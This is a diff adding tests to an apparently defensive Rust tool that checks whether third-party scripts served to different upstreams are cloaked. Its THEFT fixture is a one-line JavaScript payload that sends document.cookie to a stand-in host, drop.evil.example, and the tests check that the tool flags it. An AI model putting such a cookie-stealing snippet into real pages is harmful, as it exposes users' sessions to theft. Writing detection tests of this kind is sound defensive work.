@@ -9,6 +9,7 @@ use serde_json::Value;
 use super::shop::{CHAT, drift, script, send, serving, shop};
 use crate::policy::commands::{run, stderr, stdout};
 use crate::policy::vendor::Vendor;
+use crate::support::{Certificates, H2Upstream, whole};
 
 const THEFT: &str = "window.chat={open:function(){navigator.sendBeacon('https://drop.evil.example/',\
                      document.cookie)}};";
@@ -269,4 +270,56 @@ fn policies_that_are_not_in_order_can_not_be_looked_at() {
     assert_eq!(output.status.code(), Some(2));
     assert!(stderr(&output).contains("shop.toml:1:1"), "{}", stderr(&output));
     assert_eq!(run(&folder, &["drift", "nowhere"], "").status.code(), Some(2));
+}
+
+#[test]
+fn every_application_of_a_site_is_looked_at() {
+    let (right, wrong) = (serving(CHAT), serving(THEFT));
+    let folder = shop("/assets/chat.js", "pin");
+    let policy = folder.read("policies/shop.toml");
+    let several = |first: &Vendor, second: &Vendor| {
+        let upstreams = format!("[\"{}\", \"{}\"]", first.url(""), second.url(""));
+        folder.write("policies/shop.toml", policy.replace("[\"http://127.0.0.1:3000\"]", &upstreams));
+    };
+    several(&right, &wrong);
+    let output = drift(&folder, &[]);
+    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
+    assert!(stdout(&output).contains("cloaked"), "{}", stdout(&output));
+    assert!(!right.requests().is_empty() && !wrong.requests().is_empty());
+    let other = serving(CHAT);
+    several(&right, &other);
+    let output = drift(&folder, &[]);
+    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_application_is_reached_as_the_proxy_reaches_it_and_a_vendor_is_not() {
+    let (server, ours) = (Certificates::make(), Certificates::self_signed("clientAuth", 2));
+    let application = H2Upstream::demanding(&server.files(), Some(&ours.ca()), &["http/1.1"], |_| async {
+        http::Response::builder().header("content-type", "text/javascript").body(whole(CHAT)).unwrap()
+    })
+    .await;
+    let url = format!("https://localhost:{}", application.address.port());
+    let settings = format!(
+        "upstream-ca = \"{}\"\nupstream-cert = \"{}\"\nupstream-key = \"{}\"\n",
+        server.ca().display(),
+        ours.files().certificate.display(),
+        ours.files().key.display()
+    );
+    let looked = tokio::task::spawn_blocking(move || {
+        let own = shop("/assets/chat.js", "pin");
+        own.write("countersign.toml", &settings);
+        let own = run(&own, &["drift", "--config", "countersign.toml", "--upstream", &url], "");
+        let vendors = shop(&format!("{url}/chat.js"), "pin");
+        vendors.write("countersign.toml", &settings);
+        (own, drift(&vendors, &["--config", "countersign.toml"]))
+    });
+    let (own, vendors) = looked.await.unwrap();
+    assert_eq!(own.status.code(), Some(0), "{}", stdout(&own));
+    assert_eq!(vendors.status.code(), Some(1), "{}", stdout(&vendors));
+    assert!(
+        stdout(&vendors).contains("certificate"),
+        "its CA is not one of the system's: {}",
+        stdout(&vendors)
+    );
 }
